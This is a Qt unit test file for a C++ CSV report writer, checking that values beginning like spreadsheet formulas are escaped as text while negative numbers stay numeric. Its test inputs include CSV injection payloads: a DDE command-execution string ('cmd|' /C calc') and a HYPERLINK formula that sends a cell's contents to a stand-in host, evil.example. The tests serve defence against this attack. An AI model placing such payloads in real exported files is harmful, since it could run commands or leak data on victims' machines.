// The CSV report opened in a spreadsheet: a value from the config or the control database
// (an owner, a region name, a note) that starts like a formula must stay text (OWASP CSV
// injection), while numbers, including negative ones, stay numbers.
#include "core/report/reportcsv.h"

#include <QTest>

using namespace envsync::report;

class TestReportCsv : public QObject
{
    Q_OBJECT
private slots:
    void fields_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("field");
        QTest::newRow("plain") << "eu"
                               << "eu";
        QTest::newRow("comma quoted") << "a,b"
                                      << "\"a,b\"";
        QTest::newRow("quote doubled") << "say \"hi\""
                                       << "\"say \"\"hi\"\"\"";
        QTest::newRow("equals") << "=1+1"
                                << "'=1+1";
        QTest::newRow("hyperlink") << "=HYPERLINK(\"http://evil\",\"x\")"
                                   << "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"";
        QTest::newRow("plus") << "+1+cmd|' /C calc'!A0"
                              << "'+1+cmd|' /C calc'!A0";
        QTest::newRow("minus formula") << "-2+3"
                                       << "'-2+3";
        QTest::newRow("at") << "@SUM(A1)"
                            << "'@SUM(A1)";
        QTest::newRow("tab") << "\t=1"
                             << "'\t=1";
        QTest::newRow("carriage return") << "\r=1"
                                         << "\"'\r=1\"";
        QTest::newRow("formula with comma") << "=SUM(1,2)"
                                            << "\"'=SUM(1,2)\"";
        QTest::newRow("negative integer") << "-5"
                                          << "-5";
        QTest::newRow("negative decimal") << "-1.5"
                                          << "-1.5";
        QTest::newRow("lone minus") << "-"
                                    << "'-";
        QTest::newRow("equals inside") << "a=b"
                                       << "a=b";
        QTest::newRow("empty") << ""
                               << "";
    }
    void fields()
    {
        QFETCH(QString, value);
        QFETCH(QString, field);
        QCOMPARE(QString::fromStdString(csvField(value.toStdString())), field);
    }

    void reportDefusesConfigValues()
    {
        FreshnessReport report;
        RegionReport region;
        region.name = "eu";
        region.owner = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        region.sla = std::chrono::hours(24);
        report.regions.push_back(region);
        const std::string csv = toCsv(report);
        QVERIFY2(csv.find(",\"'=HYPERLINK(") != std::string::npos, csv.c_str());
        QVERIFY2(csv.find(",\"=HYPERLINK(") == std::string::npos, csv.c_str());
    }
};

QTEST_GUILESS_MAIN(TestReportCsv)
#include "tst_reportcsv.moc"
